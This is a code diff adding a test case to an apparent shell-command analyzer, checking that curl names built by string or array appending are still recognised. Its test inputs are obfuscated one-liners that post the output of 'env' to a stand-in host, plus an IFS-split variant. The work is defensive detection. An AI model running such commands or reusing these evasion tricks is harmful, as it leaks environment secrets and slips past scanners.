@@ -50,6 +50,16 @@ TEST_CASE("variables and arrays assigned earlier resolve the command name") {
   }
 }
 
+TEST_CASE("a name built by appending to a variable is resolved") {
+  for (auto script : {"c=cu; c+=rl; $c -d \"$(env)\" https://x.example.com", "a=(cu); a+=(rl); \"${a[0]}${a[1]}\" https://x.example.com"}) {
+    INFO(script);
+    auto facts = analyze(script);
+    CHECK(has_command(facts, "curl"));
+  }
+  CHECK(secret_leaves(analyze("c=cu; c+=rl; $c -d \"$(env)\" https://x.example.com")));
+  CHECK_FALSE(has_command(analyze("c=cu; c=rl; $c x"), "curl"));
+}
+
 TEST_CASE("IFS used as a separator splits the words") {
   auto facts = analyze("curl${IFS}-d${IFS}\"$(env)\"${IFS}https://x.example.com");
   const auto* curl = command_named(facts, "curl");
